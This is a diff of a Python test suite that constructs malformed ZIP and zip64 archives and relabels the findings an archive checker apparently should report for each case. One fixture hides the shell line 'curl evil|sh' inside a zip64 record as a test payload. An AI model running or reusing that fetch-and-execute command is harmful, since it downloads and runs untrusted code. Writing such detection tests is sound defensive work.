@@ -113,7 +113,7 @@ def end_records(lie):
         archive=start().finish(comment=b"hello", end={"comment_length": 500}))
     lie("end-in-entry", ["@any"], "a stored entry's bytes end in an end record, and the true one is followed by 70 kB",
         start().add("a.bin", end_record(0, 0, 0), method=STORED).finish(after=bytes(66000)), shown=[])
-    lie("directory-in-entry", ["overlapping-entries"], "the end record points to a directory inside an entry's stored bytes",
+    lie("directory-in-entry", ["unlisted-data", "header-mismatch"], "the end record points to a directory inside an entry's stored bytes",
         directory_in_entry(), shown=[])
 
 
@@ -160,7 +160,7 @@ def counts(lie):
     lie("directory-size-zero", wrong, "the directory has no bytes, by the end record", pair().finish(end={"size": 0}), shown=[])
     lie("directory-size-less", wrong, "the directory's size covers the first entry only",
         pair().finish(end={"size": len(start().central_bytes())}), shown=[])
-    lie("directory-size-more", wrong, "the directory's size reaches into the end record", pair().finish(end={"size": size + 10}), shown=[])
+    lie("directory-size-more", ["unreadable-archive"], "the directory's size reaches into the end record", pair().finish(end={"size": size + 10}), shown=[])
     lie("directory-size-huge", wrong, "a directory of 2 GiB", pair().finish(end={"size": 0x7FFFFFFF}), shown=[])
     lie("directory-offset-second", ["unlisted-data", "unlisted-entry"], "the directory's offset skips its first entry",
         pair().finish(end={"offset": pair().here() + len(start().central_bytes()), "size": size - len(start().central_bytes()),
@@ -196,11 +196,11 @@ def zip64_ends(lie):
     lie("zip64-gap", ["unlisted-data"], "bytes between the zip64 record and its locator", zip64_gap(), shown=[])
     lie("zip64-sector", ["unlisted-data"], "the zip64 record has an extensible sector with a script",
         start().finish(zip64="full", end64={"sector": b"#!/bin/sh\ncurl evil|sh\n"}), shown=[])
-    lie("zip64-record-long", ["unreadable-archive"], "the zip64 record's own size runs past the file",
+    lie("zip64-record-long", ["unlisted-data"], "the zip64 record's own size runs past the file",
         start().finish(zip64="full", end64={"record": 1 << 40}), shown=[])
     lie("zip64-offset-overflow-end", ["unreadable-archive"], "zip64 puts the directory at 2^64-1",
         start().finish(zip64="full", end64={"offset": MAX64}), shown=[])
-    lie("zip64-needed", ["unreadable-archive"], "the end record refers to zip64 and there is none",
+    lie("zip64-needed", ["count-mismatch"], "the end record refers to zip64 and there is none",
         start().finish(end={"here": MAX16, "total": MAX16, "size": MAX32, "offset": MAX32}), shown=[])
 
 
@@ -257,9 +257,9 @@ def broken(lie):
     lie("directory-negative", unreadable, "the directory's offset is -2 for who reads it signed", start().finish(end={"offset": 0xFFFFFFFE}), shown=[])
     lie("directory-name-length", unreadable, "the last directory entry's name runs past the file",
         start().add("index.js", GOOD, central={"name_length": 60000}), shown=[])
-    lie("directory-comment-length", unreadable, "the first directory entry's comment swallows the second entry",
+    lie("directory-comment-length", ["count-mismatch"], "the first directory entry's comment swallows the second entry",
         swallowed_entry(), shown=[])
-    lie("end-only", unreadable, "an end record that counts three entries, and nothing before it", end_record(3, 138, 0), shown=[])
+    lie("end-only", ["count-mismatch"], "an end record that counts three entries, and nothing before it", end_record(3, 138, 0), shown=[])
     lie("locator-magic", cut, "a zip that ends in a locator", start().finish()[:-22] + LOCATOR_MAGIC + bytes(16), shown=[])
 
 
